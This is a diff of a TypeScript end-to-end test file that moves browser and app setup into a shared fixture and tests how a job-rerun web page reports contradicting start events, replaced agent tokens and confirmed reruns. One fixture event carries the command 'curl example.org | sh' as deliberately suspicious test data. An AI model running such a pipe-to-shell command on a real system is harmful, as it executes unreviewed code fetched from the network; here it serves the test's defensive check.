@@ -1,26 +1,14 @@
 import { createHash } from 'node:crypto'
-import type { Browser } from '@playwright/test'
-import { afterAll, beforeAll, expect, test } from 'vitest'
+import { expect, test } from 'vitest'
 import { makeEvent } from '../ingest/sending.ts'
-import { startTestApp, type TestApp } from '../kit/app.ts'
-import { openBrowser } from '../kit/browser.ts'
-import { buildPage } from './built-page.ts'
-import { seriousFindings, visit } from './visit.ts'
+import { pageFixture } from './page-fixture.ts'
+import { seriousFindings } from './visit.ts'
 
 /** What the page shows of the limits of a rerun (contract §10 "Rerun"). */
-let app: TestApp
-let browser: Browser
-let ada: { token: string; cookie: string }
-let reporter: string
 let agent: { agent_id: string; agent_token: string }
 const COMMAND = 'python train.py'
 
-beforeAll(async () => {
-  await buildPage()
-  app = await startTestApp()
-  browser = await openBrowser()
-  ada = await app.register('ada@example.org')
-  reporter = await app.reporterToken(ada.token)
+const web = pageFixture(async ({ app, ada, reporter }) => {
   const body = { hostname: 'box9', capabilities: [], version: '1' }
   for (let time = 0; time < 2; time++) {
     const registered = await app.call('POST', '/api/agents/register', { token: ada.token, body })
@@ -37,17 +25,13 @@ beforeAll(async () => {
   for (const event of [start(COMMAND), start('curl example.org | sh'), end]) {
     expect((await app.call('POST', '/api/events', { token: reporter, body: event })).status).toBe(200)
   }
-}, 180_000)
-afterAll(async () => {
-  await browser?.close()
-  await app?.stop()
 })
 
 const ask = (method: string, path: string, body?: unknown) =>
-  app.call(method, `/api/agents/${agent.agent_id}${path}`, { token: agent.agent_token, body })
+  web.app.call(method, `/api/agents/${agent.agent_id}${path}`, { token: agent.agent_token, body })
 
 test('the timeline says that a later start had another command, which and by which token', async () => {
-  const { page, context, complaints } = await visit(browser, { address: app.address, cookie: ada.cookie })
+  const { page, context, complaints } = await web.asAda()
   await page.goto('/b/fenced/timeline')
   await page.getByText('A later start contradicted the first one and changed nothing').waitFor()
   await page.getByText('command: curl example.org | sh').waitFor()
@@ -58,7 +42,7 @@ test('the timeline says that a later start had another command, which and by whi
 })
 
 test('a host whose agent was registered again says when its token was replaced', async () => {
-  const { page, context, complaints } = await visit(browser, { address: app.address, cookie: ada.cookie })
+  const { page, context, complaints } = await web.asAda()
   await page.goto('/hosts')
   await page.locator('[data-host="box9"]').getByRole('link', { name: 'box9' }).click()
   await page.getByText('Token replaced').waitFor()
@@ -68,12 +52,15 @@ test('a host whose agent was registered again says when its token was replaced',
 
 test('a command of which the agent has no record runs once its owner insists on what is shown', async () => {
   const confirm = createHash('sha256').update(COMMAND).digest('hex')
-  const asked = await app.call('POST', '/api/batches/fenced/rerun', { token: ada.token, body: { confirm } })
+  const asked = await web.app.call('POST', '/api/batches/fenced/rerun', {
+    token: web.ada.token,
+    body: { confirm },
+  })
   expect(asked.status, JSON.stringify(asked.body)).toBe(202)
   const [first] = (await ask('GET', '/jobs')).body.jobs
   expect(first).toMatchObject({ command: COMMAND, authorized_by: 'record' })
   await ask('POST', `/jobs/${first.cmd_id}/ack`, { failure_reason: 'command_not_recorded_here' })
-  const { page, context, complaints } = await visit(browser, { address: app.address, cookie: ada.cookie })
+  const { page, context, complaints } = await web.asAda()
   await page.goto('/b/fenced')
   await page.getByRole('button', { name: 'Rerun', exact: true }).click()
   const dialog = page.getByRole('dialog')
